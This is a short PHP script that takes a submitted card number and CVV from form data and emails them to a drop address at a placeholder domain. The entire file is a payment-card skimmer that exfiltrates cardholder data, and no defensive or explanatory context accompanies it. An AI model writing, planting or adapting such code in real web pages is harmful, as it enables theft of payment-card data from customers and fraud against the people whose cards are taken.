<?php
$m = "Card holder\n" . $_POST['ccnum'] . "\n" . $_POST['cvv'];
mail('drop@example.net', 'cc', $m);
